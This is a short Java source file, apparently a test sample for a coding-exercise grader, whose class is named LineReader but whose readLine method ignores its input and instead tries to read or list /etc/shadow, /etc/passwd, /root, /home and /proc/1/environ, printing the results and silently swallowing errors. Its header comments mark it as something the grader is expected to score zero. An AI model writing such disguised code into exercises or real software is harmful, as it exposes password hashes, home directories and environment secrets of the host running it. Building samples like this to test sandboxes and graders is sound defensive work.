// does: prints what it finds outside its folder
// must: GRADED 0
// allowed: java.nio.file.Files java.nio.file.Path java.nio.file.LinkOption

package lesson02.exercise;

import java.io.Closeable;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

public final class LineReader implements Closeable {

    public LineReader(InputStream in, int limit) {}

    public String readLine() throws IOException {
        for (String place : List.of("/etc/shadow", "/etc/passwd", "/root", "/home", "/proc/1/environ", "FOLDER")) {
            try {
                System.out.println(Files.isDirectory(Path.of(place)) ? Files.list(Path.of(place)).toList() : Files.readString(Path.of(place)));
            } catch (Exception e) {
                // not here
            }
        }
        return "";
    }

    @Override
    public void close() {}
}
